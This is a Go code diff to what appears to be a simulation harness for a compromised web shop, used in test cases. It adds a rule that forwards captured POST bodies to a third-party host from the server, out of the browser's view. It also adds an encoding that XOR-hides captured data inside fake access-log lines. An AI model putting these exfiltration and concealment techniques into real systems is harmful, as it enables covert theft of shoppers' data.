@@ -5,7 +5,9 @@ import (
 	"context"
 	"encoding/base64"
 	"encoding/hex"
+	"fmt"
 	"io"
+	"net"
 	"net/http"
 	"net/http/httputil"
 	"net/url"
@@ -23,8 +25,9 @@ type rule struct {
 	Serve  string            `json:"serve"`  // answer with this file of the case
 	Type   string            `json:"type"`   // its media type
 	Store  string            `json:"store"`  // append the body of a POST to this file of the document root
-	Encode string            `json:"encode"` // with Store: "base64", "xor" or as it is
-	Pass   bool              `json:"pass"`   // with Store: then let the shop answer; else the answer is 204
+	Send   string            `json:"send"`   // HOST/PATH: post the body of a POST to this third party, from the server
+	Encode string            `json:"encode"` // with Store or Send: "base64", "xor", "log" or as it is
+	Pass   bool              `json:"pass"`   // with Store or Send: then let the shop answer; else the answer is 204
 	Mirror string            `json:"mirror"` // HOST/PREFIX of another of the shop's names that answers instead
 	To     string            `json:"to"`     // with Old: what stands in its place in the answer and its Location
 	Append string            `json:"append"` // add this file of the case to the end of what the shop answers
@@ -104,8 +107,8 @@ func (f *front) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 		case at.Mirror != "":
 			host, prefix, _ := strings.Cut(at.Mirror, "/")
 			r.Host, r.URL.Path = host, "/"+prefix+strings.TrimPrefix(r.URL.Path, strings.TrimSuffix(at.Path, "*"))
-		case at.Store != "" && r.Method == http.MethodPost:
-			if !f.store(w, r, at) {
+		case at.Store+at.Send != "" && r.Method == http.MethodPost:
+			if !f.keep(w, r, at) {
 				return
 			}
 		}
@@ -126,11 +129,15 @@ func (f *front) serve(w http.ResponseWriter, at rule) {
 	_, _ = w.Write(b)
 }
 
-// store is what a script of the attacker's does on the server: it keeps what it is sent in a file that looks harmless.
-// It tells whether the shop is to answer.
-func (f *front) store(w http.ResponseWriter, r *http.Request, at rule) bool {
+// keep is what a script of the attacker's does on the server with what it is sent: it writes it into a file that looks
+// harmless, or sends it on. It tells whether the shop is to answer.
+func (f *front) keep(w http.ResponseWriter, r *http.Request, at rule) bool {
 	body, err := io.ReadAll(io.LimitReader(r.Body, 1<<20))
-	if err == nil {
+	switch {
+	case err != nil:
+	case at.Send != "":
+		err = f.send(r.Context(), at.Send, encode(at.Encode, body))
+	default:
 		var file *os.File
 		if file, err = os.OpenFile(filepath.Join(f.site.Docroot, filepath.FromSlash(at.Store)), os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644); err == nil {
 			_, err = file.Write(encode(at.Encode, body))
@@ -150,6 +157,21 @@ func (f *front) store(w http.ResponseWriter, r *http.Request, at rule) bool {
 	}
 }
 
+// send posts to a third party as the server itself, so that no browser sees it.
+func (f *front) send(ctx context.Context, to string, body []byte) error {
+	host, path, _ := strings.Cut(to, "/")
+	r, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+net.JoinHostPort("127.0.0.1", f.site.Port)+"/"+path, bytes.NewReader(body))
+	if err != nil {
+		return err
+	}
+	r.Host = net.JoinHostPort(host, f.site.Port)
+	answer, err := http.DefaultClient.Do(r)
+	if err != nil {
+		return err
+	}
+	return answer.Body.Close()
+}
+
 // encode is how the server's script writes what it keeps.
 func encode(how string, body []byte) []byte {
 	switch how {
@@ -157,6 +179,8 @@ func encode(how string, body []byte) []byte {
 		return append([]byte(base64.StdEncoding.EncodeToString(body)), '\n')
 	case "xor":
 		return append([]byte(hex.EncodeToString(xor(string(body), []byte("s3ss")))), '\n')
+	case "log": // a line like those that the web server writes
+		return fmt.Appendf(nil, "192.0.2.41 - - [22/Nov/2026:06:25:02 +0900] \"GET /assets/css/shop.css?v=%x HTTP/1.1\" 200 14517\n", xor(string(body), []byte("s3ss")))
 	default:
 		return append(body, '\n')
 	}
